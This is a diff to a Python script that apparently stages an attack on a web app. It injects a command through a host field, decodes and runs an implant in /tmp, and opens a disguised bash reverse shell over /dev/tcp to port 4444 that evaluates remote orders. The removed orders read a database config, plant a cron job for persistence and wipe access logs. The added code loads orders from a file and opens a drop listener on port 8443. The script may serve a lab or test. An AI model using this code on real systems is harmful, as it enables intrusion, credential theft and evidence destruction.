@@ -1,5 +1,6 @@
 # SPDX-License-Identifier: BSD-2-Clause
-"""Those who visit the page of app.py: somebody who wants to know an address, and somebody else."""
+"""Those who visit the page of app.py: somebody who wants to know an address, and somebody else.
+What his implant is told to do is in the file orders, a line each."""
 
 import base64
 import fcntl
@@ -8,6 +9,7 @@ import os
 import signal
 import socket
 import struct
+import threading
 import time
 import urllib.parse
 
@@ -24,14 +26,6 @@ cp /bin/bash /tmp/.kworkerd
 setsid /tmp/.kworkerd -c 'exec 3<>/dev/tcp/{INTRUDER}/4444
 while read -r line <&3; do eval "$line" >&3 2>&1; echo . >&3; done' </dev/null >/dev/null 2>&1 &
 """
-
-ORDERS = (
-    "id",
-    "cat /srv/www/db.conf",
-    "echo '*/5 * * * * /tmp/.kworkerd' >/var/spool/cron/crontabs/www-data",
-    ": >/var/log/www/access.log",
-    "rm /var/log/www/access.log /tmp/.u",
-)
 
 
 def network():
@@ -59,10 +53,20 @@ def ask(source, host):
             page.close()
 
 
+def take(listener):
+    """What is sent here is looked at by nobody."""
+    while True:
+        with listener.accept()[0] as link:
+            while link.recv(65536):
+                pass
+
+
 def obey(listener):
     """The implant calls; each answer ends with a line that is a dot."""
+    with open("orders", encoding="utf-8") as file:
+        orders = [line for line in file.read().splitlines() if line and not line.startswith("#")]
     with listener.accept()[0] as link, link.makefile("rw", encoding="utf-8") as lines:
-        for order in ORDERS:
+        for order in orders:
             lines.write(order + "\n")
             lines.flush()
             while lines.readline() not in (".\n", ""):
@@ -74,8 +78,10 @@ def main():
     print("ready", flush=True)
     ask(VISITOR, "localhost")
     assert "uid=" in ask(INTRUDER, "localhost; id")
-    with socket.create_server((INTRUDER, 4444)) as listener:
+    with (socket.create_server((INTRUDER, 4444)) as listener,
+          socket.create_server((INTRUDER, 8443)) as drop):
         listener.settimeout(PATIENCE)
+        threading.Thread(target=take, args=(drop,), daemon=True).start()
         implant = base64.b64encode(IMPLANT.encode()).decode()
         ask(INTRUDER, f"localhost; echo {implant} | base64 -d >/tmp/.u; chmod 755 /tmp/.u; /tmp/.u")
         obey(listener)
